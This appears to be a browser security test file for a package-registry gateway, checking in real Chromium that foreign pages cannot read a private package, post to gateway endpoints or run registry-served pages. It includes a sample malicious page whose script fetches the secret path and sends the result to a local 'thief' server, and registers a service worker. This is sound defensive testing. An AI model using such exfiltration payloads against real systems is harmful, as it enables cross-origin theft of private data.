/**
 * What web pages can do to a gateway, tried in a real Chromium: nothing. Pages of another site, of another port of this
 * machine, and one that the registry itself sends; the daemon holds the token to a private package.
 */
import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { findChromium, NO_CHROMIUM, startChromium } from '../support/chromium.ts'
import { makePackage } from '../support/fixture-packages.ts'
import { gatewayWorld, type GatewayWorld } from '../support/gateway-world.ts'

const chromium = findChromium()
const SECRET = '/@corp%2fsecret'
const ABSENT = '/@corp%2fnone'

let world: GatewayWorld
let browser: Browser
/** The attacker's web server, and what came there from a script that ran in the gateway's origin. */
let server: Server
const stolen: string[] = []

beforeAll(async () => {
  if (chromium === undefined) return
  world = await gatewayWorld({
    packages: [makePackage('@corp/secret', '1.0.0')],
    npmrc: { '//{host}/:_authToken': 'of-the-company' },
  })
  world.upstream.wall(/corp/, ['Bearer of-the-company'])
  const foreign = await readFile(join(import.meta.dirname, '../fixtures/foreign-page.html'))
  server = createServer((req, res) => {
    if (req.url?.startsWith('/stolen') === true) stolen.push(req.url)
    res.setHeader('access-control-allow-origin', '*')
    res.setHeader('content-type', 'text/html').end(foreign)
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  browser = await startChromium(chromium)
})

beforeEach(() => {
  if (chromium === undefined) return
  stolen.length = 0
  world.upstream.forget()
  const thief = `http://127.0.0.1:${port()}/stolen`
  world.upstream.otherwise = (_request, res) => {
    res.writeHead(200, { 'content-type': 'text/html', 'service-worker-allowed': '/' })
    res.end(`<!doctype html><title>ran</title><script>
      fetch('${SECRET}').then((found) => fetch('${thief}?' + found.status))
      navigator.serviceWorker.register('/-/worker.js')
    </script>`)
  }
})

afterAll(async () => {
  if (chromium === undefined) return
  await browser.close()
  server.close()
  await world[Symbol.asyncDispose]()
})

describe.each([
  ['another site', 'http://foreign.invalid'],
  ['localhost', 'http://localhost'],
  ['another port of the same address', 'http://127.0.0.1'],
])('a page of %s', (_who, origin) => {
  test('learns nothing of what is there', async ({ skip }) => {
    if (chromium === undefined) return skip(NO_CHROMIUM)
    await using page = await open(`${origin}:${port()}/`)

    const present = await call(page, 'lookAt', world.url + SECRET)
    const absent = await call(page, 'lookAt', world.url + ABSENT)

    expect(present).toEqual(absent)
    expect(present).toEqual({
      ...{ script: 'error', image: 'error', style: 'error', audio: 'error' },
      ...{ readable: 'TypeError', opaque: 'TypeError' },
    })
    // Nor by the time it takes: nothing was looked up.
    expect(world.upstream.seen).toEqual([])
  })

  test('sends nothing that goes on', async ({ skip }) => {
    if (chromium === undefined) return skip(NO_CHROMIUM)
    await using page = await open(`${origin}:${port()}/`)
    for (const path of ['/fx-mine', '/-/catalog/hints', '/-/npm/v1/tokens']) {
      const answered = page.waitForResponse(world.url + path)
      await call(page, 'postForm', world.url + path)
      expect((await answered).status()).toBe(403)
    }
    expect(world.upstream.seen).toEqual([])
  })

  test.for(['showFrame', 'open'])("runs no page of the registry's (%s)", async (how, { skip }) => {
    if (chromium === undefined) return skip(NO_CHROMIUM)
    await using page = await open(`${origin}:${port()}/`)
    const answered = page.context().waitForEvent('response', (one) => one.url().endsWith('/-/page'))

    await call(page, how, `${world.url}/-/page`)

    expect((await answered).status()).toBe(403)
    expect(world.upstream.seen).toEqual([])
    expect(stolen).toEqual([])
  })
})

describe('an address of the gateway that somebody typed', () => {
  test("shows no page of the registry's, but has it saved", async ({ skip }) => {
    if (chromium === undefined) return skip(NO_CHROMIUM)
    await using page = await open('about:blank')
    const saved = page.waitForEvent('download')
    await page.goto(`${world.url}/-/page`).catch(() => undefined) // it is none that can be gone to
    await (await saved).cancel()
    expect(world.upstream.count(/page/)).toBe(1)
    expect(world.upstream.count(/secret|worker/)).toBe(0)
    expect(stolen).toEqual([])
  })

  test('shows text in an origin that is nobody’s, where no script runs', async ({ skip }) => {
    if (chromium === undefined) return skip(NO_CHROMIUM)
    world.upstream.otherwise = (_request, res) =>
      void res.writeHead(200, { 'content-type': 'text/plain' }).end('<script>x</script>')
    await using page = await open(`${world.url}/-/page`)
    expect(await page.evaluate('self.origin')).toBe('null')
    expect(await page.evaluate('document.querySelector("script")')).toBeNull()
  })
})

function port(): number {
  return (server.address() as AddressInfo).port
}

async function open(url: string): Promise<Page> {
  const page = await browser.newPage()
  await page.goto(url)
  return page
}

/** A function of the page's, by its name. */
function call(page: Page, name: string, url: string): Promise<unknown> {
  return page.evaluate(
    `(async () => { const found = await ${name}('${url}'); return found?.window ? null : found })()`,
  )
}
